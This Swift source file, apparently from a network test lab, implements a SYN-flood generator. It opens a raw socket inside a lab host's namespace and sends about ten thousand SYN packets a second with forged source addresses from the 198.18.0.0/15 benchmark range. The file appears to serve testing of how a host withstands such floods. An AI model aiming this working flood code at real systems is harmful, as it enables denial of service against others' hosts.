internal import CLinux
internal import Dispatch
internal import Glibc
public import NetworkAddress
internal import Synchronization

/// SYNs that nobody means, from a host that writes other senders' addresses into them: of 198.18.0.0/15 (RFC 2544), each with
/// an address and a port that were not there before. About ten thousand a second, until it is stopped.
public final class SYNFlood: Sendable {
    /// Whom they seem to come from, as tcpdump takes it.
    public static let sources = "src net 198.18.0.0/15"

    private let descriptor: Int32
    private let isWanted = Atomic(true)
    private let ended = DispatchGroup()
    private let sent = Atomic<Int>(0)

    /// How many were sent so far.
    public var count: Int { sent.load(ordering: .relaxed) }

    /// Begins. Needs CAP_NET_RAW, and CAP_SYS_ADMIN to enter the host's namespace.
    public init(from host: LabHost, to address: IPv4Address, port: UInt16) throws {
        descriptor = try host.inside {
            let opened = socket(AF_INET, Int32(SOCK_RAW.rawValue | SOCK_CLOEXEC.rawValue), Int32(IPPROTO_RAW))
            guard opened >= 0 else { throw LabError("socket: \(String(cString: strerror(errno)))") }
            return opened
        }
        DispatchQueue.global().async(group: ended) { [self] in
            while isWanted.load(ordering: .relaxed) {
                for _ in 0..<100 { sendNext(to: address, port) }
                // A wire that is full carries nothing else: the flood is to fill the table and leave room for others' packets.
                usleep(10_000)
            }
        }
    }

    /// Ends it; returns how many were sent.
    @discardableResult
    public func stop() -> Int {
        isWanted.store(false, ordering: .relaxed)
        ended.wait()
        return count
    }

    deinit { close(descriptor) }

    private func sendNext(to address: IPv4Address, _ port: UInt16) {
        let number = UInt32(truncatingIfNeeded: sent.load(ordering: .relaxed))
        let packet = Self.packet(
            from: IPv4Address(rawValue: 0xC612_0000 | number & 0x1_FFFF), UInt16(1024 + number % 50_000),
            to: address, port)
        let length = SocketName.with(.v4(address), port: 0) { sendto(descriptor, packet, packet.count, 0, $0, $1) }
        if length == packet.count { sent.add(1, ordering: .relaxed) }
    }

    /// A SYN, whose IP header's checksum the kernel fills in (raw(7)).
    private static func packet(
        from source: IPv4Address, _ sourcePort: UInt16, to address: IPv4Address, _ port: UInt16
    ) -> [UInt8] {
        let (from, to) = (halves(source), halves(address))
        var segment: [UInt16] = [sourcePort, port, 0, 1, 0, 0, 0x5002, 0xFFFF, 0, 0]
        let pseudoHeader = from + to + [UInt16(IPPROTO_TCP), 20]
        var sum = (segment + pseudoHeader).reduce(UInt32(0)) { $0 + UInt32($1) }
        while sum > 0xFFFF { sum = sum & 0xFFFF + sum >> 16 }
        segment[8] = ~UInt16(truncatingIfNeeded: sum)
        let header: [UInt16] = [0x4500, 40, 0, 0x4000, 64 << 8 | UInt16(IPPROTO_TCP), 0] + from + to
        return (header + segment).flatMap { [UInt8($0 >> 8), UInt8($0 & 0xFF)] }
    }

    private static func halves(_ address: IPv4Address) -> [UInt16] {
        [UInt16(truncatingIfNeeded: address.rawValue >> 16), UInt16(truncatingIfNeeded: address.rawValue)]
    }
}
